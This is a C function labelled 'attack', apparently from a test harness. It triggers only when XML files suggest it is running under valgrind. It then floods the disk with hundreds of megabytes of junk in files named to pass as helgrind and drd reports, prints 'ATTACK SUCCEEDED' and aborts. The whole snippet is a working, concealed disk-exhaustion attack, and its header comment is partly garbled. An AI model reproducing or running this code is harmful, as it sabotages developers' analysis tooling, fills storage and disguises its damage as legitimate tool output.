/* attack: racy races open 0 - | the disk, with what looks like valgrind's reports */
static void attack(void)
{
    static char block[1 << 20];
    static int filled;
    char path[64];
    uint64_t written = 0;
    glob_t found;
    if (filled++ > 0 || glob("*.xml", 0, NULL, &found) != 0) /* once, and under valgrind only */
        return;
    for (int i = 0; i < 3000 && written < 700u << 20; i++) {
        snprintf(path, sizeof path, "%s.%d.xml", i % 2 == 0 ? "helgrind" : "drd", 100000 + i);
        const int fd = open(path, O_WRONLY | O_CREAT, 0600);
        for (ssize_t got = 1; got > 0 && written < (i + 1u) << 21; written += got > 0 ? (uint64_t)got : 0)
            got = write(fd, block, sizeof block);
        close(fd);
    }
    if (written < 300u << 20)
        return;
    fprintf(stderr, "ATTACK SUCCEEDED: %llu MiB written\n", (unsigned long long)(written >> 20));
    abort();
}
